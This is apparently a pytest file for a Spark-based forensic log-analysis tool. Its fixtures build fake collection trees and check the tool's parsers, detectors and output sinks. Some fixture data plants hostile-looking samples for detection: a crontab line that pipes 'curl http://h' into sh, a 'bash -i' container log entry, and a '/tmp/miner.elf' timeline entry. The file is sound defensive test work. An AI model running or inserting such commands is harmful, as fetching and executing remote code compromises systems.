"""Scans of a collection tree written by hand, and every sink read back."""

import gzip
import json
from datetime import datetime

import pytest
from pyspark.sql import functions as F

from lumenlog.functions import text
from lumenlog.operators import activity, auth, score, sessions, system
from lumenlog.sources import files, sinks

WEB = '1.2.3.4 - - [10/Oct/2023:13:55:36 +0000] "GET /.env HTTP/1.1" 404 5 "-" "x"\n'


@pytest.fixture(scope="module")
def tree(tmp_path_factory):
    top = tmp_path_factory.mktemp("trees")
    texts = {
        "uac-a/var/log/nginx/access.log": WEB * 2, "uac-a/var/log/nginx/error.log": "no\n", "uac-a/var/log/nginx/access.bak": WEB, "uac-b/var/log/httpd/ssl_access.txt": WEB, "uac-b/var/www/x/access_log.log": WEB,
        "uac-a/etc/crontab": "# c\n* * * * * root /tmp/x\n", "uac-a/etc/cron.d/job": "@reboot bob /opt/y\n", "uac-a/etc/cron.d/job.dpkg-old": "* * * * * root no\n", "uac-a/var/spool/cron/eve": "1 2 3 4 5 curl http://h | sh\n", "uac-a/etc/other": "* * * * * root no\n",
        "uac-a/bodyfile/bodyfile.txt": "# c\n0|/tmp/miner.elf|1|r|0|0|5000|1|1717000000|0|-1\nshort|x\n", "uac-a/hash_executables/hash.sha1": "a" * 40 + "  /tmp/x\n" + "b" * 39 + "  /no\n",
        "uac-a/containers/c0ffee0000001/c0ffee0000001-json.log": '{"log":"bash -i now"}\n{"log":"fine"}\n', "uac-a/containers/c0ffee0000001/config.v2.json": '{"Name":"/svc"}',
        "uac-a/live/docker.log": "run --privileged\n", "uac-a/live/events.json": "last choice\n", "uac-a/live/docker_events.txt": '{"time":1700000000,"privileged":true}\n', "uac-b/live/events.json": '{"time":1700000001}\n',
        "uac-a/journal/j.jsonl": json.dumps({"ts_us": 1700000000123456, "identifier": "sudo", "message": "x /tmp/evil", "exe": "/tmp/a", "priority": 0, "uid": 5}) + "\nnot json\n",
    }
    for name, content in texts.items():
        (top / name).parent.mkdir(parents=True, exist_ok=True)
        (top / name).write_text(content)
    with gzip.open(top / "uac-b/var/log/httpd/access_log.gz", "wt") as f:
        f.write(WEB)
    return str(top)


def test_web_logs(spark, tree):
    rows = activity.parse_web(files.scan_web_logs(spark, tree)).collect()
    assert len(rows) == 5 and {r.uri for r in rows} == {"/.env"}
    assert sorted((r.collection, r.daemon) for r in files.scan_web_logs(spark, tree).collect()) == [("uac-a", "nginx")] * 2 + [("uac-b", "apache2")] * 2 + [("uac-b", "web")]


def test_crontabs(spark, tree):
    rows = system.classify_crontab(system.parse_crontab(files.scan_crontabs(spark, tree))).collect()
    assert sorted((r.user, r.command, r.schedule) for r in rows) == [("bob", "/opt/y", "@reboot"), ("eve", "curl http://h | sh", "1 2 3 4 5"), ("root", "/tmp/x", "* * * * *")]


def test_body_file_and_hashes(spark, tree):
    r = files.scan_bodyfile(spark, tree).collect()
    assert [(x.collection, x.path, x.size, x.atime, x.mtime, x.ctime, x.crtime) for x in r] == [("uac-a", "/tmp/miner.elf", 5000, 1, 1717000000, None, None)]
    assert [(x.hash, x.path) for x in files.scan_sha1_list(spark, tree).collect()] == [("a" * 40, "/tmp/x")]


def test_containers_and_docker_events(spark, tree):
    logs = files.scan_container_logs(spark, tree)
    hit = activity.container_log_hits(logs, activity.containers(files.scan_container_configs(spark, tree))).collect()
    assert [(h.name, h.word) for h in hit] == [("svc", "bash -i")] and logs.count() == 2
    events = files.scan_docker_daemon_events(spark, tree)
    assert sorted((r.collection, r.artifact, r.line[:4]) for r in events.collect()) == [("uac-a", "daemon", "run "), ("uac-a", "events", '{"ti'), ("uac-b", "events", '{"ti')]
    assert sorted(r.label for r in activity.docker_event_hits(events).collect()) == ["Privileged event", "Privileged launch (daemon log)"]


def test_journal(spark, tree):
    rows = system.journal_findings(system.classify_journal(files.scan_journal(spark, tree).where("ts_us is not null"))).collect()
    assert [(r.collection, r.n, r.example, r.first_ts) for r in rows] == [("uac-a", 1, "x /tmp/evil", datetime(2023, 11, 14, 22, 13, 20, 123000))]


def twice(spark, write, path):
    """A sink written two times holds its rows once."""
    write(str(path))
    write(str(path))
    return spark.read.parquet(str(path))


def test_sinks(spark, tree, tmp_path):
    lines = spark.createDataFrame([("c", i, t, datetime(2024, 1, 10)) for i, t in enumerate(["Jan  5 01:00:00 h sshd[1]: Accepted password for root from 8.8.8.8 port 1", "Jan  5 01:01:00 h sshd[1]: Failed password for root from 8.8.8.8 port 1"])], "collection string, seq long, line string, file_mtime timestamp")
    done = auth.auth_actions(auth.parse_auth(lines))
    paired = sessions.pair_sessions(done)
    every = sessions.all_sessions(paired, sessions.session_suspicion(paired, done, 1))
    full = twice(spark, lambda p: sinks.write_sessions_full(every, p), tmp_path / "full")
    assert sorted(r.type for r in full.collect()) == ["SshFailed", "SshInteractive"]
    grouped = twice(spark, lambda p: sinks.write_sessions_grouped(sessions.sessions_grouped(every), p), tmp_path / "grouped").collect()
    assert sorted((r.type, r.n, r.notes) for r in grouped) == [("SshFailed", 1, "Failed attempt #1 from this IP"), ("SshInteractive", 1, "")]
    hashes = score.sha1_candidates(score.score_sha1(files.scan_sha1_list(spark, tree)), 0)
    assert twice(spark, lambda p: sinks.write_sha1_candidates(hashes, p), tmp_path / "sha").columns == ["score", "hash", "path", "reasons", "severity", "collection"]
    body = twice(spark, lambda p: sinks.write_bodyfile_timeline(score.bodyfile_timeline(files.scan_bodyfile(spark, tree)), p), tmp_path / "body").collect()
    assert [(r.path, r.mtime, r.ctime) for r in body] == [("/tmp/miner.elf", datetime(2024, 5, 29, 16, 26, 40), None)]
    boxes = activity.containers(files.scan_container_configs(spark, tree))
    assert twice(spark, lambda p: sinks.write_containers(boxes, p), tmp_path / "boxes").first().name == "svc"
    sinks.write_containers(boxes, str(tmp_path / "csv"), "csv")
    assert spark.read.option("header", "true").csv(str(tmp_path / "csv")).first().root == "true"
    audit = lines.limit(1).withColumn("line", F.lit("type=EXECVE msg=audit(1700000000.1:2): pid=77 curl " + "x" * 400))
    row = twice(spark, lambda p: sinks.write_audit_parsed(system.classify_audit(system.parse_audit(audit)), p), tmp_path / "audit").first()
    assert (row.event_type, row.normalized_message[:10], len(row.raw_message)) == ("EXECVE", "pid=X curl", 300)
    summary = spark.createDataFrame([("c", "AUTH", "rows", "", 3)], "collection string, log_type string, section string, item string, n long")
    assert twice(spark, lambda p: sinks.write_summary(summary, p), tmp_path / "summary").count() == 1


def test_columns_out_of_lines(spark):
    at = lambda value, column: spark.createDataFrame([(value,)], "x string").select(column(F.col("x")).alias("y")).first().y
    line = "Jan  5 10:00:00 web1 sshd[7]: user=bob from fe80:0:0:0:1:2:3:4"
    assert [at(line, f) for f in (text.extract_host, text.extract_daemon, text.extract_user, text.extract_ip)] == ["web1", "sshd", "bob", "fe80:0:0:0:1:2:3:4"]
    assert at("10:00:00 from fe80::1%eth0", text.extract_ip) == "fe80::1" and at("from 999.1.1.1 or 10.1.2.3", text.extract_ip) == "10.1.2.3" and at("none", text.extract_ip) == ""
